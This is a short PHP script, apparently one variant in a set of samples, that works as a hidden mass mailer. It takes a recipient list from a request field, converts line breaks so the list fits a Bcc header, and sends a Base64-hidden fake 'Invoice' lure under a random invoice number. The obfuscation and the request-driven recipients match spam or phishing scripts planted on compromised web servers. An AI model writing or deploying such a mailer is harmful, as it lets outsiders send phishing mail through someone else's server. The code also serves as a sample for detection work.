<?php
// The same sender with its header written by a helper in one interpolated string and the letter
// kept Base64-encoded; the list arrives in a cookie-named field of the request.
$k = 'to' . 'list';
function hdr($who, $me)
{
    return "Reply-To: $me\r\nX-Priority: 3\r\nBcC: $who\r\nContent-Type: text/html";
}
$body = base64_decode('PGgxPkludm9pY2U8L2gxPjxwPlNlZSB0aGUgYXR0YWNoZWQgZG9jdW1lbnQuPC9wPg==');
$rcpt = str_replace(array("\r", "\n"), ',', $_REQUEST[$k]);
mail('billing@localhost', 'Invoice #' . mt_rand(1000, 9999), $body, hdr($rcpt, 'billing@localhost'));
